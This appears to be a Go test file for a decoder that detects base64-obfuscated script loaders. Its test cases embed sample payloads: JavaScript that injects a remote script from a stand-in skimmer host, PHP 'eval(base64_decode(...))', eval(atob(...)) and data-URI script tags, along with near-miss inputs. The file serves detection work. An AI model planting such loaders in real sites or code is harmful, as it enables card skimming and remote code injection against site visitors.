package decode

import (
	"encoding/base64"
	"strings"
	"testing"
)

const testURL = "https://skim.evil-cdn.example/c.js"

func b64(s string) string    { return base64.StdEncoding.EncodeToString([]byte(s)) }
func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func TestBase64(t *testing.T) {
	t.Parallel()
	runFamily(t, Base64, base64Cases())
}

func base64Cases() []familyCase {
	long := "(function(){var s=document.createElement('script');s.src='" + testURL + "';document.head.appendChild(s)})();"
	return []familyCase{
		{name: "atob", in: "x=atob('" + b64(testURL) + "')", chain: "base64", text: testURL, at: "atob('" + b64(testURL) + "')"},
		{name: "window.atob", in: "x=window.atob(\"" + b64(testURL) + "\")", chain: "base64", text: testURL},
		{name: "bare literal", in: "var p = '" + b64(testURL) + "';", chain: "base64", text: testURL, at: b64(testURL)},
		{name: "unpadded", in: "var p = '" + strings.TrimRight(b64(testURL), "=") + "';", chain: "base64", text: testURL},
		{name: "url-safe", in: "p='" + b64url("https://skim.evil-cdn.example/?a=~~~>>>") + "'", chain: "base64", text: "skim.evil-cdn.example"},
		{name: "php base64_decode", in: "<?php $u = base64_decode('" + b64(testURL) + "'); ?>", chain: "base64", text: testURL},
		{name: "php multi-line literal", in: "<?php eval(base64_decode('" + b64(long)[:40] + "\n" + b64(long)[40:] + "')); ?>", chain: "base64", text: testURL},
		{name: "Buffer.from", in: "Buffer.from('" + b64(testURL) + "', 'base64').toString()", chain: "base64", text: testURL},
		{name: "data URI", in: "<script src=\"data:text/javascript;base64," + b64(long) + "\"></script>", chain: "base64", text: testURL, at: b64(long)},
		{name: "data URI unquoted", in: "<script src=data:text/javascript;base64," + b64(long) + "></script>", chain: "base64", text: testURL},
		{name: "inside longer blob", in: "var blob = 'xx:" + b64("junk junk junk "+testURL+" more junk") + "';", chain: "base64", text: testURL},
		{name: "misaligned start", in: "var b = 'abc" + b64("// loader for "+testURL+" v2") + "';", chain: "base64", text: testURL},
		{name: "sha384- prefix", in: `var k="sha384-aHR0cHM6Ly9ldmlsLmV4YW1wbGUvc2tpbS5qcw=="`, chain: "base64", text: "https://evil.example/skim.js", at: "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvc2tpbS5qcw=="},
		{name: "word- prefix", in: "var k = 'xyz-" + b64(testURL) + "';", chain: "base64", text: testURL, at: b64(testURL)},
		{name: "word_ prefix", in: "var k = 'cfg_" + b64(testURL) + "';", chain: "base64", text: testURL},
		{name: "long word_ prefix", in: "var k = 'checkout_v2_" + b64(testURL) + "';", chain: "base64", text: testURL},
		{name: "word: prefix", in: "var k = 'v2:" + b64(testURL) + "';", chain: "base64", text: testURL, at: b64(testURL)},
		{name: "short in atob", in: "atob('aGk=')", chain: "base64", text: "hi"},
		{name: "base64 of base64", in: "atob(atob('" + b64(b64(testURL)) + "'))", chain: "base64>base64", text: testURL},
		{name: "base64 of hex escapes", in: "eval(atob('" + b64(`var u='\x68\x74\x74\x70\x73://skim.evil-cdn.example';`) + "'))", chain: "base64>hex-escape", text: "https://skim.evil-cdn.example"},

		// Near misses.
		{name: "integrity hash", in: `<script integrity="sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC" crossorigin="anonymous">`},
		{name: "integrity hash sha256", in: `<script integrity="sha256-/JqT3SQfawRcv/BIHPThkBvs0OEvtFFmqPF/lYI/Cxo=">`},
		{name: "prefix before short run", in: "var k = 'xyz-" + strings.TrimRight(b64("evil.example.."), "=") + "';"},
		{name: "kebab-case classes", in: `<div class="navbar-expand-lg-navbar-light-bg-light-fixed-top-shadow-sm">`},
		{name: "snake_case name", in: "define_custom_element_registry_for_checkout_payment_widget();"},
		{name: "prefixed uuid", in: `id = "order-550e8400e29b41d4a716446655440000";`},
		{name: "png data URI", in: `background:url("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")`},
		{name: "source map mappings", in: `{"version":3,"mappings":"AAAA,SAASA,IAAIC,GACX,OAAOA,EAAI,EACb;AAEA,QAAQC,IAAIF,IAAI"}`},
		{name: "long identifier", in: "var getElementsByTagNameAndClassName = documentFragmentInstance;"},
		{name: "path", in: `import x from "/static/js/vendors/node_modules/react/index.min.js";`},
		{name: "hex digest", in: `"sha": "d41d8cd98f00b204e9800998ecf8427e3b1f5a9c"`},
		{name: "too short", in: "var s = 'aGVsbG8=';"},
		{name: "invalid in atob", in: "atob('not base64!')"},
		{name: "binary", in: "k='" + base64.StdEncoding.EncodeToString([]byte{0, 1, 2, 3, 250, 251, 252, 253, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15}) + "'"},
	}
}

func TestBase64Strict(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in, want string
		ok             bool
	}{
		{"padded", "aGk=", "hi", true},
		{"unpadded", "aGk", "hi", true},
		{"white space", "aG\n k=", "hi", true},
		{"url-safe", "-_-_", "\xfb\xff\xbf", true},
		{"one char left", "aGkhY", "", false},
		{"bad char", "aG!k", "", false},
		{"data after padding", "aG=k", "", false},
		{"empty", "", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, ok := base64Strict([]byte(tt.in))
			if ok != tt.ok || ok && string(got) != tt.want {
				t.Errorf("base64Strict(%q) = %q, %v, want %q, %v", tt.in, got, ok, tt.want, tt.ok)
			}
		})
	}
}
